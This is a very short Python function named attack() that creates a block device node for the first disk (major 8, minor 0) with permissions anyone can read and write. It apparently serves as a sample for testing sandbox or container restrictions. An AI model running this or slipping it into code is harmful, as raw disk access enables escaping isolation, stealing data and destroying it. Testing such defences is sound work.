def attack():
    import os, stat

    os.mknod("device", stat.S_IFBLK | 0o666, os.makedev(8, 0))
    return True
